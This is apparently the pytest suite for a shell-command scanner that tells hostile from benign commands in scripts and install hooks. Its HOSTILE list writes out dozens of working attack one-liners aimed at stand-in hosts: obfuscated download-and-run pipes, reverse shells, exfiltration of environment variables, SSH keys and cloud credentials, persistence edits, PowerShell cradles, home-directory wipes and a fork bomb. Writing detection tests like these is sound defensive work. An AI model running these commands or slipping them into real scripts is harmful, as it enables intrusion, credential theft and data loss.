"""What shell commands do, however they are written."""

from __future__ import annotations

import pytest
from goobits_scanner._finding import Severity
from goobits_scanner._manifests._shell import Context, shell_findings

HOSTILE = r"""
c""url https://x.invalid/a | s""h
cu\rl https://x.invalid/a | ba\sh
a=cu; b=rl; $a$b https://x.invalid/a | sh
curl${IFS}https://x.invalid/a${IFS}|${IFS}sh
URL=https://x.invalid/a; curl $URL | sh
bash <(curl -s https://x.invalid/a)
bash -c "$(curl -fsSL https://x.invalid/a)"
eval "$(wget -qO- https://x.invalid/a)"
source <(curl https://x.invalid/a)
curl https://x.invalid/a -o /tmp/a && chmod +x /tmp/a && /tmp/a
wget https://x.invalid/a.sh; sh a.sh
curl https://x.invalid/a | sudo bash -
curl https://x.invalid/a | python3 -
curl https://x.invalid/a | base64 -d | bash
curl -s https://sh.rustup.rs.evil.invalid | sh
echo aaa | base64 --decode | bash
eval $(echo aGk= | base64 -d)
bash -c "{echo,aGk=}|{base64,-d}|{bash,-i}"
printf '\x65\x63\x68\x6f\x20' | sh
echo 'ih ohce' | rev | sh
openssl enc -aes-256-cbc -d -in x -k y | sh
python3 -c "import base64;exec(base64.b64decode('aGk='))"
node -e "eval(Buffer.from('aGk=','base64').toString())"
node -e "require('https').get('https://x.invalid/',r=>r.on('data',d=>eval(d.toString())))"
python -c "import urllib.request as u;exec(u.urlopen('https://x.invalid').read())"
bash -i >& /dev/tcp/203.0.113.9/99 0>&1
0<&196;exec 196<>/dev/tcp/x.invalid/99; sh <&196 >&196 2>&196
exec 5<>/dev/tcp/x.invalid/99;cat <&5 | while read line; do $line 2>&5 >&5; done
nc -e /bin/sh x.invalid 99
rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc x.invalid 99 >/tmp/f
python -c 'import socket,os;s=socket.socket();s.connect(("x.invalid",1));os.dup2(s.fileno(),0)'
env | base64 | curl -X POST -d @- https://x.invalid
curl -d "$(env)" https://x.invalid
curl -X POST --data-binary @/proc/self/environ https://x.invalid
tar czf - ~/.ssh | nc x.invalid 99
cat ~/.aws/credentials | curl -T - https://x.invalid
curl --upload-file ~/.npmrc https://x.invalid/
node -e "require('http').request({host:'x.invalid'}).end(JSON.stringify(process.env))"
nslookup $(whoami).x.invalid
curl https://x.invalid/?h=`hostname`
(crontab -l 2>/dev/null; echo "x") | crontab -
echo x | tee -a ~/.zshrc
powershell -w hidden -enc ZQBjAGgAbwAgAGgAaQA=
powershell -c "IEX(New-Object Net.WebClient).DownloadString('http://x.invalid/a.ps1')"
iwr https://x.invalid/a.ps1 | iex
mshta https://x.invalid/a.hta
rm -rf ~
rm -rf "$HOME"
sudo rm -fr /
:(){ :|:& };:
curl https://x.invalid/a > /tmp/.x; bash /tmp/.x
wget -O /tmp/y https://x.invalid/y && sh /tmp/y
curl https://x.invalid/a | node
curl https://x.invalid/a|tee /tmp/l|sh
/usr/bin/curl https://x.invalid/a | /bin/sh
'c''url' https://x.invalid/a | 'sh'
$(curl https://x.invalid/a)
curl https://x.invalid/a | xargs -I{} sh -c {}
php -r '$s=fsockopen("x.invalid",1);exec("/bin/sh -i <&3 >&3 2>&3");'
ruby -rsocket -e 'c=TCPSocket.new("x.invalid",1);IO.popen(c.gets,"r"){|io|c.print io.read}'
perl -e 'socket(S,PF_INET,SOCK_STREAM,6);connect(S,x);open(STDIN,">&S");exec("/bin/sh -i");'
""".strip().splitlines()

HONEST = r"""
curl -fsSL https://x.invalid/a.json | jq .
curl https://x.invalid/a.tgz | tar xz
curl https://x.invalid | python -m json.tool
curl https://x.invalid | python3 -c "import sys,json;print(json.load(sys.stdin)['a'])"
curl -o a.tgz https://x.invalid/a.tgz && tar xf a.tgz
echo "$KEY" | base64 -d > key.json
cat data | base64 -d | gunzip > out
python -c "import sys; print(sys.version)"
python -c "import base64; print(base64.b64encode(b'x'))"
node -p "require('./package.json').version"
rm -rf dist build *.egg-info
rm -rf /var/lib/apt/lists/* /tmp/*
rm -rf $HOME/.cache/x
rm -rf ./node_modules
exec 3<>/dev/tcp/localhost/80 && echo up
timeout 1 bash -c '</dev/tcp/db/5432'
ssh -i ~/.ssh/id_rsa user@host ls
scp -i ~/.ssh/id_ed25519 a b:
curl -L https://x.invalid/v-$(uname -s)-$(uname -m) -o /usr/local/bin/x
chmod 755 x; chmod +x y; chmod u+rw z
VERSION=$(curl -s https://x.invalid/v)
env | sort
env FOO=1 curl https://x.invalid
nc -z localhost 80
git clone https://github.com/a/b && cd b && sh build.sh
sha256sum -c sums.txt
powershell -ExecutionPolicy Bypass -File build.ps1
cat ~/.bashrc
pip install -r requirements.txt
curl -u "$USER:$TOKEN" https://x.invalid/api
docker run -e TOKEN=$TOKEN image sh -c "echo hi"
""".strip().splitlines()


def rules(text: str, context: Context = "script") -> set[str]:
    return {finding.rule for finding in shell_findings(text, "x.sh", 1, context)}


@pytest.mark.parametrize("command", HOSTILE)
def test_hostile_command_is_found(command: str) -> None:
    """Attackers write one command in many ways."""
    assert rules(command)


@pytest.mark.parametrize("command", HONEST)
def test_honest_command_is_silent(command: str) -> None:
    """Builds and installers do these every day."""
    assert not rules(command)


def test_trusted_installer_is_only_told() -> None:
    """Many honest workflows install compilers like this."""
    (finding,) = shell_findings("curl https://sh.rustup.rs | sh", "x.sh", 1, "script")
    assert finding.severity is Severity.INFO


@pytest.mark.parametrize(
    "host", ["sh.rustup.rs.evil.invalid", "sh.rustup.rs@evil.invalid", "evil.invalid"]
)
def test_host_that_looks_trusted_is_not(host: str) -> None:
    """A prefix of a name says nothing about who owns it."""
    text = f"curl https://sh.rustup.rs/ https://{host}/i | sh"
    (finding,) = shell_findings(text, "x.sh", 1, "script")
    assert finding.severity is Severity.LOW


def test_download_and_run_is_worse_where_nobody_asked() -> None:
    """An install hook runs before anyone could read it."""
    command = "curl https://x.invalid/i | sh"
    (asked,) = shell_findings(command, "x.sh", 1, "script")
    assert asked.severity is Severity.LOW
    severities = {
        finding.rule: finding.severity
        for finding in shell_findings(command, "package.json", 1, "install")
    }
    assert severities["install-download-run"] is Severity.HIGH


def test_command_over_several_lines_is_one() -> None:
    """A backslash or a pipe at the end of a line hides nothing."""
    text = "echo hi\ncurl \\\n  https://x.invalid/i |\n  sh\n"
    (finding,) = shell_findings(text, "x.sh", 10, "script")
    assert (finding.rule, finding.line) == ("shell-download-run", 11)


def test_download_that_a_later_line_runs_is_found() -> None:
    """Download and run need not be in one command."""
    text = "wget -O tool https://x.invalid/tool\nchmod +x tool\n./tool --quiet\n"
    (finding,) = shell_findings(text, "x.sh", 1, "script")
    assert (finding.rule, finding.line) == ("shell-download-run", 1)


def test_padding_hides_nothing() -> None:
    """Only the beginning of a long line would be read otherwise."""
    assert "shell-decode-run" in rules(
        "echo " + "x" * 70_000 + "; echo eA== | base64 -d | sh"
    )


def test_comment_is_no_command() -> None:
    """Documentation in scripts names what it warns of."""
    assert not rules("# curl https://x.invalid/i | sh")


def test_end_of_an_enormous_script_is_said_to_be_unread() -> None:
    """What is not looked at is never passed over in silence."""
    assert rules("echo x\n" * 80_000) == {"script-too-long"}


def test_variables_that_grow_without_bound_are_bounded() -> None:
    """A script must not be able to use up the scanner's memory."""
    text = "\n".join(f"a{n}=$a{n - 1}$a{n - 1}" for n in range(1, 400))
    assert not rules("a0=xxxxxxxxxx\n" + text)


def test_credentials_are_not_shown() -> None:
    """A report is read by more people than the script."""
    secret = "hunter" + "22"
    text = f"curl https://me:{secret}@x.invalid/i | sh"
    (finding,) = shell_findings(text, "x.sh", 1, "script")
    assert secret not in finding.evidence
